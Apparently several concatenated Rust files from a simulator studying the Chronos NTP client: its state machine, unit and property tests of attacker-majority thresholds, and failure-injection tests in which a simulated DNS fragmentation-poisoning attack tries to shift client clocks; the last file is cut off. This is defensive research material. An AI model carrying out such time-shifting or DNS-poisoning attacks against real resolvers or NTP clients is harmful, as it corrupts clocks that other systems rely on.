        panic_controlled, prob_sample_controlled, shift_attack_bound, SecurityBound,
    };
    pub use crate::client::ChronosClient;
    pub use crate::config::{ChronosConfig, PoolGenConfig};
    pub use crate::consensus::{combine_round, ConsensusRule};
    pub use crate::core::{ChronosStats, Phase, RoundOutcome};
    pub use crate::multipath::ConsensusPoolClient;
    pub use crate::pool::{PoolGenerator, PoolRound};
    pub use crate::select::{chronos_select, panic_select, ChronosDecision, RejectReason};
}
