//! The Chronos client node: DNS pool generation, randomized sampling,
//! provably secure selection, and panic mode — the complete state machine
//! from the NDSS'18 paper, attached to the simulated network.

use crate::config::ChronosConfig;
use crate::core::{self, CoreState, RoundOutcome};
use crate::pool::PoolGenerator;
use crate::select::SelectScratch;
use dnslab::client::StubResolver;
use dnslab::wire::{Question, Rcode};
use netsim::ip::Ipv4Packet;
use netsim::node::{Context, Node};
use netsim::stack::{IpStack, StackEvent};
use netsim::time::SimTime;
use ntplab::assoc::NtpExchanger;
use ntplab::clock::LocalClock;
use ntplab::select::PeerSample;
use std::any::Any;
use std::net::Ipv4Addr;

pub use crate::core::{ChronosStats, Phase};

const TAG_POOL_TICK: u64 = 1;
const TAG_POLL: u64 = 2;
const TAG_COLLECT: u64 = 3;
const TAG_PANIC_COLLECT: u64 = 4;

/// A Chronos NTP client attached to the simulated network.
#[derive(Debug)]
pub struct ChronosClient {
    stack: IpStack,
    stub: StubResolver,
    exchanger: NtpExchanger,
    clock: LocalClock,
    /// Snapshot restored by [`Node::reset`] (world-reuse support).
    initial_clock: LocalClock,
    config: ChronosConfig,
    pool_gen: PoolGenerator,
    phase: Phase,
    retries: u32,
    last_update: Option<SimTime>,
    dns_outstanding: bool,
    round_samples: Vec<PeerSample>,
    // Reused across rounds so the selection hot path never allocates in
    // steady state: `offsets_buf` collects the round's raw offsets,
    // `scratch` is the selection partition buffer.
    offsets_buf: Vec<i64>,
    scratch: SelectScratch,
    offset_trace: Vec<(SimTime, i64)>,
    stats: ChronosStats,
}

impl ChronosClient {
    /// Creates a client at `addr` using `resolver`, with the given clock.
    pub fn new(addr: Ipv4Addr, resolver: Ipv4Addr, clock: LocalClock) -> Self {
        ChronosClient::with_config(addr, resolver, clock, ChronosConfig::default())
    }

    /// Creates a client with explicit configuration.
    ///
    /// # Panics
    ///
    /// Panics if the configuration is internally inconsistent
    /// (see [`ChronosConfig::validate`]).
    pub fn with_config(
        addr: Ipv4Addr,
        resolver: Ipv4Addr,
        clock: LocalClock,
        config: ChronosConfig,
    ) -> Self {
        config.validate();
        let pool_gen = PoolGenerator::new(config.pool.clone());
        let sample_size = config.sample_size;
        ChronosClient {
            stack: IpStack::new(addr),
            stub: StubResolver::new(resolver),
            exchanger: NtpExchanger::new(),
            initial_clock: clock.clone(),
            clock,
            config,
            pool_gen,
            phase: Phase::PoolGeneration,
            retries: 0,
            last_update: None,
            dns_outstanding: false,
            round_samples: Vec::new(),
            offsets_buf: Vec::with_capacity(sample_size),
            scratch: SelectScratch::with_capacity(sample_size),
            offset_trace: Vec::new(),
            stats: ChronosStats::default(),
        }
    }

    /// The client's address.
    pub fn addr(&self) -> Ipv4Addr {
        self.stack.addr()
    }

    /// Current lifecycle phase.
    pub fn phase(&self) -> Phase {
        self.phase
    }

    /// The client's clock.
    pub fn clock(&self) -> &LocalClock {
        &self.clock
    }

    /// The pool generator (rounds history, composition).
    pub fn pool(&self) -> &PoolGenerator {
        &self.pool_gen
    }

    /// Activity counters.
    pub fn stats(&self) -> ChronosStats {
        self.stats
    }

    /// Offset-from-true-time samples, one per completed poll round.
    pub fn offset_trace(&self) -> &[(SimTime, i64)] {
        &self.offset_trace
    }

    /// Current clock error against true time, in nanoseconds.
    pub fn offset_from_true(&self, now: SimTime) -> i64 {
        self.clock.offset_from_true(now)
    }

    fn send_pool_query(&mut self, ctx: &mut Context<'_>) {
        self.stats.pool_queries += 1;
        self.dns_outstanding = true;
        let q = Question::a(self.config.pool.pool_name.clone());
        self.stub
            .query(ctx, &mut self.stack, q, self.pool_gen.rounds_done() as u64);
    }

    fn pool_tick(&mut self, ctx: &mut Context<'_>) {
        if self.phase != Phase::PoolGeneration {
            return;
        }
        // The previous round never answered: count it as a failed round.
        if self.dns_outstanding {
            self.dns_outstanding = false;
            self.stats.pool_failures += 1;
            self.pool_gen.record_failure(ctx.now());
            if self.finish_pool_generation_if_done(ctx) {
                return;
            }
        }
        self.send_pool_query(ctx);
        ctx.set_timer(self.config.pool.query_interval, TAG_POOL_TICK);
    }

    fn finish_pool_generation_if_done(&mut self, ctx: &mut Context<'_>) -> bool {
        if self.pool_gen.is_complete() {
            self.phase = Phase::Syncing;
            ctx.set_timer(netsim::time::SimDuration::ZERO, TAG_POLL);
            true
        } else {
            false
        }
    }

    fn start_sample_round(&mut self, ctx: &mut Context<'_>) {
        if self.pool_gen.is_empty() {
            // Nothing to sample; try again next interval.
            ctx.set_timer(self.config.poll_interval, TAG_POLL);
            return;
        }
        self.stats.polls += 1;
        self.round_samples.clear();
        self.exchanger.clear();
        let n = self.pool_gen.len();
        let m = self.config.sample_size.min(n);
        let picks = ctx.rng().sample_indices(n, m);
        let servers: Vec<Ipv4Addr> = picks.iter().map(|&i| self.pool_gen.servers()[i]).collect();
        for server in servers {
            self.exchanger
                .query(ctx, &mut self.stack, &self.clock, server);
        }
        ctx.set_timer(self.config.response_window, TAG_COLLECT);
    }

    /// Sends the panic-mode queries to the whole pool. The phase change and
    /// episode accounting already happened in [`core::conclude_sample_round`].
    fn start_panic(&mut self, ctx: &mut Context<'_>) {
        self.round_samples.clear();
        self.exchanger.clear();
        for server in self.pool_gen.servers().to_vec() {
            self.exchanger
                .query(ctx, &mut self.stack, &self.clock, server);
        }
        ctx.set_timer(self.config.response_window, TAG_PANIC_COLLECT);
    }

    fn collect_sample_round(&mut self, ctx: &mut Context<'_>) {
        self.offsets_buf.clear();
        self.offsets_buf
            .extend(self.round_samples.iter().map(|s| s.offset_ns));
        let outcome = core::conclude_sample_round(
            &self.config,
            &mut CoreState {
                phase: &mut self.phase,
                retries: &mut self.retries,
                last_update: &mut self.last_update,
                stats: &mut self.stats,
            },
            &mut self.scratch,
            &self.offsets_buf,
            ctx.now(),
        );
        match outcome {
            RoundOutcome::Accept { correction_ns, .. } => {
                self.clock.apply_correction(ctx.now(), correction_ns);
                self.push_trace(ctx.now());
                ctx.set_timer(self.config.poll_interval, TAG_POLL);
            }
            RoundOutcome::Resample => {
                self.push_trace(ctx.now());
                // Resample immediately with fresh randomness.
                ctx.set_timer(netsim::time::SimDuration::ZERO, TAG_POLL);
            }
            RoundOutcome::EnterPanic => {
                self.push_trace(ctx.now());
                self.start_panic(ctx);
            }
        }
    }

    fn collect_panic_round(&mut self, ctx: &mut Context<'_>) {
        self.offsets_buf.clear();
        self.offsets_buf
            .extend(self.round_samples.iter().map(|s| s.offset_ns));
        let correction = core::conclude_panic_round(
            &mut CoreState {
                phase: &mut self.phase,
                retries: &mut self.retries,
                last_update: &mut self.last_update,
                stats: &mut self.stats,
            },
            &mut self.scratch,
            &self.offsets_buf,
            ctx.now(),
        );
        if let Some(correction) = correction {
            self.clock.apply_correction(ctx.now(), correction);
        }
        self.push_trace(ctx.now());
        ctx.set_timer(self.config.poll_interval, TAG_POLL);
    }

    fn push_trace(&mut self, now: SimTime) {
        self.offset_trace
            .push((now, self.clock.offset_from_true(now)));
    }
}

impl Node for ChronosClient {
    fn reset(&mut self) {
        self.stack.reset();
        self.stub.reset();
        self.exchanger.clear();
        self.clock = self.initial_clock.clone();
        self.pool_gen.reset();
        self.phase = Phase::PoolGeneration;
        self.retries = 0;
        self.last_update = None;
        self.dns_outstanding = false;
        self.round_samples.clear();
        self.offsets_buf.clear();
        self.offset_trace.clear();
        self.stats = ChronosStats::default();
    }

    fn on_start(&mut self, ctx: &mut Context<'_>) {
        self.send_pool_query(ctx);
        ctx.set_timer(self.config.pool.query_interval, TAG_POOL_TICK);
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
        let Some(StackEvent::Udp { src, datagram, .. }) = self.stack.handle(ctx, pkt) else {
            return;
        };
        // Pool-generation DNS response?
        if self.phase == Phase::PoolGeneration {
            if let Some(resp) = self.stub.handle(src, &datagram) {
                self.dns_outstanding = false;
                if resp.message.rcode() == Rcode::NoError && !resp.message.answer_addrs().is_empty()
                {
                    self.pool_gen.record_response(ctx.now(), &resp.message);
                } else {
                    self.stats.pool_failures += 1;
                    self.pool_gen.record_failure(ctx.now());
                }
                self.finish_pool_generation_if_done(ctx);
                return;
            }
        }
        // NTP reply?
        if let Some(sample) = self
            .exchanger
            .handle(ctx.now(), &self.clock, src, &datagram)
        {
            self.round_samples.push(sample);
        }
    }

    fn on_timer(&mut self, ctx: &mut Context<'_>, tag: u64) {
        match (tag, self.phase) {
            (TAG_POOL_TICK, Phase::PoolGeneration) => self.pool_tick(ctx),
            (TAG_POLL, Phase::Syncing) => self.start_sample_round(ctx),
            (TAG_COLLECT, Phase::Syncing) => self.collect_sample_round(ctx),
            (TAG_PANIC_COLLECT, Phase::Panic) => self.collect_panic_round(ctx),
            _ => {}
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::PoolGenConfig;
    use dnslab::resolver::{RecursiveResolver, Upstream};
    use dnslab::server::AuthServer;
    use dnslab::zone::pool_ntp_zone;
    use netsim::prelude::*;
    use netsim::time::SimDuration;
    use ntplab::server::NtpServer;

    /// A compressed Chronos config so tests run fast: 4 pool queries at
    /// 200 s intervals (comfortably above the 150 s pool TTL, like the real
    /// hourly cadence), m = 6, d = 2, poll every 16 s.
    fn fast_config() -> ChronosConfig {
        ChronosConfig {
            sample_size: 6,
            trim: 2,
            poll_interval: SimDuration::from_secs(16),
            pool: PoolGenConfig {
                queries: 4,
                query_interval: SimDuration::from_secs(200),
                ..PoolGenConfig::default()
            },
            ..ChronosConfig::default()
        }
    }

    fn build_world(
        seed: u64,
        universe: usize,
        server_shift_ns: i64,
        config: ChronosConfig,
    ) -> (World, NodeId) {
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let mut world = World::new(seed);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(universe, 1)])),
            &[ns_addr],
        );
        let mut res = RecursiveResolver::new(
            resolver_addr,
            vec![Upstream {
                zone: "pool.ntp.org".parse().unwrap(),
                ns_names: vec!["ns1.pool.ntp.org".parse().unwrap()],
                bootstrap: vec![ns_addr],
            }],
        );
        res.allow_client(client_addr);
        world.add_node("resolver", Box::new(res), &[resolver_addr]);
        for i in 0..universe as u32 {
            let addr = Ipv4Addr::from(u32::from(Ipv4Addr::new(10, 32, 0, 1)) + i);
            world.add_node(
                format!("ntp{i}"),
                Box::new(NtpServer::new(addr, LocalClock::new(server_shift_ns, 0.0))),
                &[addr],
            );
        }
        let client = world.add_node(
            "chronos",
            Box::new(ChronosClient::with_config(
                client_addr,
                resolver_addr,
                LocalClock::perfect(),
                config,
            )),
            &[client_addr],
        );
        (world, client)
    }

    #[test]
    fn pool_generation_completes_and_sync_starts() {
        let (mut world, client) = build_world(1, 64, 0, fast_config());
        world.run_for(SimDuration::from_secs(900));
        let c = world.node::<ChronosClient>(client);
        assert_eq!(c.phase(), Phase::Syncing);
        assert_eq!(c.pool().len(), 16, "4 rounds x 4 addrs");
        assert_eq!(c.stats().pool_queries, 4);
        assert!(c.stats().accepts >= 1, "sync rounds ran");
    }

    #[test]
    fn honest_pool_keeps_clock_true() {
        let (mut world, client) = build_world(2, 64, 0, fast_config());
        world.run_for(SimDuration::from_secs(1500));
        let c = world.node::<ChronosClient>(client);
        let err = c.offset_from_true(world.now()).abs();
        assert!(err < 5_000_000, "clock error {err}ns stays tiny");
        assert_eq!(c.stats().panics, 0);
    }

    #[test]
    fn corrects_cold_start_offset() {
        let cfg = fast_config();
        let ns_addr = Ipv4Addr::new(203, 0, 113, 1);
        let resolver_addr = Ipv4Addr::new(198, 51, 100, 53);
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let mut world = World::new(3);
        world.add_node(
            "auth",
            Box::new(AuthServer::new(ns_addr, vec![pool_ntp_zone(64, 1)])),
            &[ns_addr],
        );
        let mut res = RecursiveResolver::new(
            resolver_addr,
            vec![Upstream {
                zone: "pool.ntp.org".parse().unwrap(),
                ns_names: vec!["ns1.pool.ntp.org".parse().unwrap()],
                bootstrap: vec![ns_addr],
            }],
        );
        res.allow_client(client_addr);
        world.add_node("resolver", Box::new(res), &[resolver_addr]);
        for i in 0..64u32 {
            let addr = Ipv4Addr::from(u32::from(Ipv4Addr::new(10, 32, 0, 1)) + i);
            world.add_node(
                format!("ntp{i}"),
                Box::new(NtpServer::new(addr, LocalClock::perfect())),
                &[addr],
            );
        }
        // Client starts 2 s wrong — way outside the envelope, but the cold
        // start (no previous update) accepts the first correction.
        let client = world.add_node(
            "chronos",
            Box::new(ChronosClient::with_config(
                client_addr,
                resolver_addr,
                LocalClock::new(2_000_000_000, 0.0),
                cfg,
            )),
            &[client_addr],
        );
        world.run_for(SimDuration::from_secs(1200));
        let c = world.node::<ChronosClient>(client);
        let err = c.offset_from_true(world.now()).abs();
        assert!(err < 5_000_000, "cold start corrected, err {err}ns");
    }

    #[test]
    fn rejects_sudden_unanimous_shift_after_sync() {
        // Servers honest during pool gen + first polls, then all jump
        // +500 ms: agreement holds but the envelope rejects; after K
        // rejections the client panics — and the panic average over the
        // (fully shifted) pool drags the clock. This mirrors the NDSS
        // analysis: an attacker controlling *everything* wins; the defence
        // is about majorities, not unanimity.
        let (mut world, client) = build_world(4, 32, 0, fast_config());
        world.run_for(SimDuration::from_secs(900));
        assert_eq!(world.node::<ChronosClient>(client).phase(), Phase::Syncing);
        // Shift every server by +500 ms mid-flight.
        for i in 0..32u32 {
            let addr = Ipv4Addr::from(u32::from(Ipv4Addr::new(10, 32, 0, 1)) + i);
            let id = world.owner_of(addr).unwrap();
            world
                .node_mut::<NtpServer>(id)
                .clock_mut()
                .set_offset_ns(SimTime::from_secs(900), 500_000_000);
        }
        world.run_for(SimDuration::from_secs(300));
        let c = world.node::<ChronosClient>(client);
        assert!(c.stats().rejects >= 1, "envelope rejected the jump");
        assert!(c.stats().panics >= 1, "K rejections forced panic");
    }

    #[test]
    fn trace_grows_with_polls() {
        let (mut world, client) = build_world(5, 64, 0, fast_config());
        world.run_for(SimDuration::from_secs(1100));
        let c = world.node::<ChronosClient>(client);
        assert!(c.offset_trace().len() >= 3);
        let mut last = SimTime::ZERO;
        for &(at, _) in c.offset_trace() {
            assert!(at >= last);
            last = at;
        }
    }

    #[test]
    fn pool_failures_counted_when_dns_is_dead() {
        // No resolver: every pool query times out at the next tick.
        let client_addr = Ipv4Addr::new(198, 51, 100, 10);
        let mut world = World::new(6);
        let client = world.add_node(
            "chronos",
            Box::new(ChronosClient::with_config(
                client_addr,
                Ipv4Addr::new(198, 51, 100, 53),
                LocalClock::perfect(),
                fast_config(),
            )),
            &[client_addr],
        );
        world.run_for(SimDuration::from_secs(900));
        let c = world.node::<ChronosClient>(client);
        assert!(c.stats().pool_failures >= 3);
        assert!(c.pool().is_empty());
    }
}
