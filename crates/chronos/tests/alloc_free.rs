//! Verifies the selection hot path performs **zero heap allocations** when
//! given a warm [`SelectScratch`], via a counting global allocator.
//!
//! Lives in its own integration-test binary because a `#[global_allocator]`
//! is process-wide, and everything runs inside ONE `#[test]` function:
//! libtest executes sibling tests on parallel threads, which would let a
//! neighbour's allocations land between a counting window's before/after
//! reads and fail the zero-allocation assertion spuriously.
//!
//! Even single-threaded, libtest's own harness thread occasionally
//! allocates (timeout bookkeeping) while a window is open, so each
//! zero-allocation claim is asserted on the **minimum across several
//! windows**: a transient stray can pollute one window, but a real
//! allocation on the hot path would show up in every one.

use chronos::select::{
    chronos_select, chronos_select_with, panic_select_with, ChronosDecision, SelectScratch,
};
use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};

struct CountingAllocator;

static ALLOCATIONS: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAllocator {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

fn count_allocations<R>(f: impl FnOnce() -> R) -> (u64, R) {
    let before = ALLOCATIONS.load(Ordering::Relaxed);
    let result = f();
    let after = ALLOCATIONS.load(Ordering::Relaxed);
    (after - before, result)
}

/// Runs `f` in several counting windows and returns the minimum count plus
/// the last result — immune to stray harness-thread allocations, which are
/// transient, while a genuine per-call allocation inflates every window.
fn min_allocations_over_windows<R>(windows: u32, mut f: impl FnMut() -> R) -> (u64, R) {
    let (mut min, mut result) = count_allocations(&mut f);
    for _ in 1..windows {
        let (allocs, r) = count_allocations(&mut f);
        min = min.min(allocs);
        result = r;
    }
    (min, result)
}

#[test]
fn selection_hot_path_is_allocation_free_with_scratch() {
    const MS: i64 = 1_000_000;

    // --- harness sanity: the counter must see the allocating wrapper
    //     (which builds a scratch per call) or a zero below proves nothing.
    let offsets = vec![0i64; 15];
    let (allocs, _) = count_allocations(|| chronos_select(&offsets, 5, 25 * MS, 100 * MS));
    assert!(allocs >= 1, "wrapper should allocate its scratch");

    // --- warm scratch: zero allocations across trims and both selectors.
    let offsets: Vec<i64> = (0..133).map(|i| ((i * 37) % 41 - 20) * MS / 10).collect();
    let mut scratch = SelectScratch::with_capacity(offsets.len());
    let (allocs, decisions) = min_allocations_over_windows(5, || {
        let mut accepts = 0u32;
        for round in 0..1000 {
            let trim = (round % 8) + 1;
            if let ChronosDecision::Accept { .. } =
                chronos_select_with(&mut scratch, &offsets, trim, 500 * MS, 1000 * MS)
            {
                accepts += 1;
            }
            let _ = panic_select_with(&mut scratch, &offsets);
        }
        accepts
    });
    assert!(decisions > 0, "sanity: rounds were actually accepted");
    assert_eq!(
        allocs, 0,
        "warm-scratch selection must not allocate (got {allocs} allocations over 2000 calls in the cleanest window)"
    );

    // --- cold scratch: at most one growth allocation, then silence.
    let offsets = vec![3 * MS; 31];
    let (first, _) = min_allocations_over_windows(3, || {
        let mut cold = SelectScratch::new();
        chronos_select_with(&mut cold, &offsets, 5, 25 * MS, 100 * MS)
    });
    assert!(
        first <= 1,
        "cold scratch allocates at most once, got {first}"
    );
    let mut scratch = SelectScratch::with_capacity(offsets.len());
    chronos_select_with(&mut scratch, &offsets, 5, 25 * MS, 100 * MS);
    let (later, _) = min_allocations_over_windows(5, || {
        for _ in 0..100 {
            chronos_select_with(&mut scratch, &offsets, 5, 25 * MS, 100 * MS);
        }
    });
    assert_eq!(later, 0);
}
