//! Property tests: Chronos selection invariants and the pool-capture
//! threshold.

use chronos::analysis::{
    hypergeom_tail_ge, min_attacker_for_panic_control, panic_controlled, prob_sample_controlled,
};
use chronos::select::{chronos_select, panic_select, ChronosDecision};
use proptest::prelude::*;

proptest! {
    /// Any accepted correction lies within [min, max] of the submitted
    /// samples — selection can interpolate, never extrapolate.
    #[test]
    fn accepted_correction_is_bounded_by_samples(
        offsets in proptest::collection::vec(-1_000_000_000i64..1_000_000_000, 11..40),
        trim in 1usize..5,
        omega_ms in 1i64..1000,
        envelope_ms in 1i64..2000,
    ) {
        prop_assume!(offsets.len() > 2 * trim);
        let decision = chronos_select(
            &offsets,
            trim,
            omega_ms * 1_000_000,
            envelope_ms * 1_000_000,
        );
        if let ChronosDecision::Accept { correction_ns, survivors } = decision {
            let lo = *offsets.iter().min().unwrap();
            let hi = *offsets.iter().max().unwrap();
            prop_assert!(correction_ns >= lo && correction_ns <= hi);
            prop_assert_eq!(survivors, offsets.len() - 2 * trim);
            prop_assert!(correction_ns.abs() <= envelope_ms * 1_000_000);
        }
    }

    /// With at most `trim` liars (however extreme) among otherwise
    /// agreeing honest samples, an accepted correction stays within the
    /// honest range — the Chronos security property below threshold.
    #[test]
    fn minority_liars_cannot_move_accepted_result(
        honest_spread_us in 0i64..500,
        liar_offset_ms in prop_oneof![(-100_000i64..-1000), (1000i64..100_000)],
        trim in 2usize..5,
    ) {
        let m = 3 * trim; // d = m/3 as the papers prescribe
        let honest = m - trim;
        let mut offsets: Vec<i64> = (0..honest)
            .map(|i| (i as i64 - honest as i64 / 2) * honest_spread_us * 1_000)
            .collect();
        for _ in 0..trim {
            offsets.push(liar_offset_ms * 1_000_000);
        }
        let honest_lo = *offsets[..honest].iter().min().unwrap();
        let honest_hi = *offsets[..honest].iter().max().unwrap();
        if let ChronosDecision::Accept { correction_ns, .. } =
            chronos_select(&offsets, trim, 25_000_000, i64::MAX)
        {
            prop_assert!(
                correction_ns >= honest_lo && correction_ns <= honest_hi,
                "liars moved the correction to {correction_ns}"
            );
        }
    }

    /// Panic selection is bounded by sample extremes and is exactly the
    /// attacker's value when the attacker holds ≥ ⌈2n/3⌉ agreeing samples.
    #[test]
    fn panic_bounds_and_capture(
        honest in 1usize..60,
        attacker_extra in 0usize..80,
        lie_ms in 100i64..2000,
    ) {
        let n = honest + min_attacker_for_panic_control(honest * 3) .min(honest * 2) + attacker_extra;
        let attackers = n - honest;
        let mut offsets = vec![0i64; honest];
        offsets.extend(vec![lie_ms * 1_000_000; attackers]);
        let avg = panic_select(&offsets).unwrap();
        prop_assert!(avg >= 0 && avg <= lie_ms * 1_000_000);
        if panic_controlled(n, attackers) {
            prop_assert_eq!(
                avg,
                lie_ms * 1_000_000,
                "attacker owns panic at {}/{}",
                attackers,
                n
            );
        }
    }

    /// The 2/3 threshold is exact: one attacker fewer than ⌈2n/3⌉ never
    /// controls, the bound itself always does.
    #[test]
    fn panic_threshold_exact(n in 3usize..500) {
        let k = min_attacker_for_panic_control(n);
        prop_assert!(panic_controlled(n, k));
        prop_assert!(!panic_controlled(n, k - 1));
        // And it is the paper's 2/3 (within integer rounding).
        let frac = k as f64 / n as f64;
        prop_assert!(frac >= 2.0 / 3.0 - 1e-9);
        prop_assert!(frac <= 2.0 / 3.0 + 1.0 / n as f64 + 1e-9);
    }

    /// Hypergeometric tails are monotone in the number of marked items.
    #[test]
    fn sample_capture_monotone(n in 20usize..200, m in 6usize..16) {
        let d = m / 3;
        let mut last = 0.0f64;
        for k in (0..=n).step_by((n / 10).max(1)) {
            let p = prob_sample_controlled(n, k, m, d);
            prop_assert!(p + 1e-12 >= last, "p({k}) = {p} < {last}");
            prop_assert!((0.0..=1.0 + 1e-9).contains(&p));
            last = p;
        }
    }

    /// Tail probabilities are proper probabilities and decreasing in the
    /// threshold.
    #[test]
    fn hypergeom_tail_sane(n in 10u64..120, k_frac in 0.0f64..1.0, m in 2u64..15) {
        let k = ((n as f64) * k_frac) as u64;
        let m = m.min(n);
        let mut last = 1.0f64;
        for c in 0..=m {
            let p = hypergeom_tail_ge(n, k, m, c);
            prop_assert!((0.0..=1.0 + 1e-9).contains(&p));
            prop_assert!(p <= last + 1e-9);
            last = p;
        }
    }
}

// ---------------------------------------------------------------------
// Equivalence of the optimized hot path (caller-provided SelectScratch +
// select_nth_unstable partial selection) with the retained sort-based
// reference implementation: decisions must be byte-identical for every
// input, trim, and bound — including scratch reuse across rounds.
// ---------------------------------------------------------------------

use chronos::select::{chronos_select_with, panic_select_with, reference, SelectScratch};

proptest! {
    /// `chronos_select_with` ≡ the naive sort-based reference, across
    /// random sample vectors, trims, and bounds.
    #[test]
    fn scratch_select_matches_sorted_reference(
        offsets in proptest::collection::vec(-2_000_000_000i64..2_000_000_000, 1..120),
        // Crosses TRIM_SCAN_MAX (16): exercises both the single-pass tracker
        // and the select_nth_unstable partial-selection path.
        trim in 0usize..40,
        omega_ms in 0i64..2000,
        envelope_ms in 0i64..3000,
    ) {
        let mut scratch = SelectScratch::new();
        let fast = chronos_select_with(
            &mut scratch,
            &offsets,
            trim,
            omega_ms * 1_000_000,
            envelope_ms * 1_000_000,
        );
        let slow = reference::chronos_select_sorted(
            &offsets,
            trim,
            omega_ms * 1_000_000,
            envelope_ms * 1_000_000,
        );
        prop_assert_eq!(fast, slow, "diverged on {:?} trim {}", offsets, trim);
    }

    /// `panic_select_with` ≡ the sort-based reference.
    #[test]
    fn scratch_panic_matches_sorted_reference(
        offsets in proptest::collection::vec(-2_000_000_000i64..2_000_000_000, 0..200),
    ) {
        let mut scratch = SelectScratch::new();
        prop_assert_eq!(
            panic_select_with(&mut scratch, &offsets),
            reference::panic_select_sorted(&offsets),
            "diverged on {:?}", offsets
        );
    }

    /// A dirty scratch (reused across rounds of different sizes and
    /// contents) never leaks state between calls.
    #[test]
    fn scratch_reuse_is_stateless(
        rounds in proptest::collection::vec(
            proptest::collection::vec(-1_000_000_000i64..1_000_000_000, 1..40),
            1..8,
        ),
        trim in 0usize..4,
    ) {
        let mut scratch = SelectScratch::new();
        for offsets in &rounds {
            let fast = chronos_select_with(&mut scratch, offsets, trim, 25_000_000, 100_000_000);
            let slow = reference::chronos_select_sorted(offsets, trim, 25_000_000, 100_000_000);
            prop_assert_eq!(fast, slow);
            let fast_panic = panic_select_with(&mut scratch, offsets);
            prop_assert_eq!(fast_panic, reference::panic_select_sorted(offsets));
        }
    }
}
