//! Failure injection: the system (and the attack) under packet loss, dead
//! infrastructure, cache pressure and filtering middleboxes.

use attacklab::plan::{AttackPlan, PoisonStrategy};
use chronos::client::{ChronosClient, Phase};
use chronos_pitfalls::experiments::compressed_chronos;
use chronos_pitfalls::scenario::{addrs, Scenario, ScenarioConfig};
use dnslab::resolver::RecursiveResolver;
use netsim::link::{LatencyModel, PathProfile};
use netsim::stack::{FragFilter, StackConfig};
use netsim::time::{SimDuration, SimTime};

/// Pool generation completes despite 20 % packet loss — rounds that lose
/// their DNS exchange are recorded as failures and the pool is simply
/// smaller, never corrupted.
#[test]
fn pool_generation_survives_packet_loss() {
    let mut s = Scenario::build(ScenarioConfig {
        seed: 201,
        benign_universe: 150,
        chronos: compressed_chronos(24, SimDuration::from_secs(200)),
        ..ScenarioConfig::default()
    });
    s.world.topology_mut().set_default_path(PathProfile {
        latency: LatencyModel::internet_default(),
        loss: 0.20,
    });
    s.run_pool_generation(SimDuration::from_hours(4));
    let c = s.chronos();
    assert_eq!(c.phase(), Phase::Syncing);
    assert_eq!(c.pool().rounds().len(), 24, "every round accounted for");
    let got = c.pool().len();
    assert!(
        (40..=96).contains(&got),
        "pool has {got} servers under 20% loss"
    );
    // Resolver retries absorbed some of the loss.
    assert!(s.resolver().stats().retries > 0);
}

/// Chronos still syncs (fewer samples, more rejects) under heavy loss.
#[test]
fn chronos_sync_survives_loss() {
    let mut s = Scenario::build(ScenarioConfig {
        seed: 202,
        benign_universe: 96,
        chronos: compressed_chronos(6, SimDuration::from_secs(200)),
        ..ScenarioConfig::default()
    });
    s.world.topology_mut().set_default_path(PathProfile {
        latency: LatencyModel::internet_default(),
        loss: 0.30,
    });
    s.run_pool_generation(SimDuration::from_hours(2));
    s.run_for(SimDuration::from_secs(600));
    let c = s.chronos();
    assert!(c.stats().accepts + c.stats().panics >= 1, "{:?}", c.stats());
    assert!(
        c.offset_from_true(s.world.now()).abs() < 20_000_000,
        "clock still bounded"
    );
}

/// A dead nameserver (all queries black-holed) leaves the pool empty but
/// the client keeps functioning and reports failures.
#[test]
fn dead_nameserver_is_survivable() {
    let mut s = Scenario::build(ScenarioConfig {
        seed: 203,
        benign_universe: 48,
        chronos: compressed_chronos(4, SimDuration::from_secs(200)),
        ..ScenarioConfig::default()
    });
    // Sever the resolver -> nameserver path entirely.
    let resolver = s.nodes.resolver;
    let auth = s.nodes.auth;
    s.world.topology_mut().set_path_bidirectional(
        resolver,
        auth,
        PathProfile {
            latency: LatencyModel::Constant(SimDuration::from_millis(10)),
            loss: 1.0,
        },
    );
    s.run_pool_generation(SimDuration::from_hours(2));
    let c = s.chronos();
    assert!(c.pool().is_empty());
    assert_eq!(c.stats().pool_failures, 4, "all four rounds SERVFAILed");
    assert!(s.resolver().stats().servfails >= 1);
}

/// The fragmentation attack fails cleanly against a resolver that drops
/// all fragments (the 10 % population in the study) — and the benign
/// service keeps working because unfragmented responses still flow.
#[test]
fn frag_filtering_resolver_blocks_the_attack() {
    let mut cfg = ScenarioConfig {
        seed: 204,
        benign_universe: 96,
        chronos: compressed_chronos(8, SimDuration::from_secs(200)),
        attack: Some(AttackPlan {
            strategy: PoisonStrategy::Fragmentation {
                start: SimTime::ZERO,
            },
            ..AttackPlan::paper_default(SimDuration::from_millis(500))
        }),
        ..ScenarioConfig::default()
    };
    cfg.resolver = dnslab::resolver::ResolverConfig::default();
    let mut s = Scenario::build(cfg);
    // Swap the resolver's stack policy: reject all fragments.
    {
        let resolver = s.world.node_mut::<RecursiveResolver>(s.nodes.resolver);
        let mut replacement = RecursiveResolver::with_stack_config(
            addrs::RESOLVER,
            vec![dnslab::resolver::Upstream {
                zone: "pool.ntp.org".parse().unwrap(),
                ns_names: (1..=14)
                    .map(|i| format!("ns{i}.pool.ntp.org").parse().unwrap())
                    .collect(),
                bootstrap: (0..14u32)
                    .map(|i| std::net::Ipv4Addr::from(u32::from(addrs::NS_BASE) + i))
                    .collect(),
            }],
            StackConfig {
